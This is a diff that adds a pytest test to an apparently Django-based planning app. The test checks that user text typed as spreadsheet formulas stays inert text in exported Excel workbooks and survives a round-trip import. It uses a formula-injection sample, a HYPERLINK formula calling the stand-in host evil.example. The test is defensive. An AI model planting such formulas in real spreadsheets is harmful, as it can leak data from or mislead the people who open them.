@@ -300,3 +300,38 @@ def test_import_plan_command_with_a_workbook(campaign, danang, tmp_path):
     call_command("export-template", campaign=2026, org="48", output=out, stdout=io.StringIO())
     call_command("import-plan", str(out), campaign=2026, org="48", stdout=io.StringIO())
     assert Plan.objects.filter(organisation=danang).exists()
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?x","X")'
+
+
+def formulas_in(raw: bytes) -> list[str]:
+    """Every <f> element of every sheet, read from the XML itself (not through openpyxl)."""
+    import re
+
+    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
+        return [f for name in archive.namelist() if name.startswith("xl/worksheets/")
+                for f in re.findall(r"<f[ >].*?</f>", archive.read(name).decode())]
+
+
+def test_text_typed_as_a_formula_stays_text_in_every_workbook(client, campaign, danang,
+                                                              editor_a, reviewer, good_plan):
+    data = {**good_plan, "summary": "=1+1",
+            "contact": {**good_plan["contact"], "name": "@SUM(1)"},
+            "activities": [{**good_plan["activities"][0], "title": HOSTILE,
+                            "location": "-2+3"}]}
+    plan, _ = plan_save_draft(campaign=campaign, organisation=danang, data=data, by=editor_a)
+    client.force_login(editor_a)
+    own = client.get("/plans/2026/48/workbook.xlsx").content
+    client.force_login(reviewer)
+    bulk = client.get("/backoffice/2026/bulk.xlsx").content
+    for raw in (own, bulk):
+        assert formulas_in(raw) == []
+        book = load_workbook(io.BytesIO(raw))
+        texts = {c.value for sheet in book for row in sheet.iter_rows() for c in row}
+        assert {HOSTILE, "=1+1", "@SUM(1)", "-2+3"} <= texts
+    # Read back, the text is what was typed (no apostrophe added).
+    plan, warnings, changes = plan_import_workbook(campaign=campaign, organisation=danang,
+                                                   raw=own, by=editor_a)
+    assert changes == [] and plan.draft["activities"][0]["title"] == HOSTILE
+    assert plan.draft["summary"] == "=1+1"
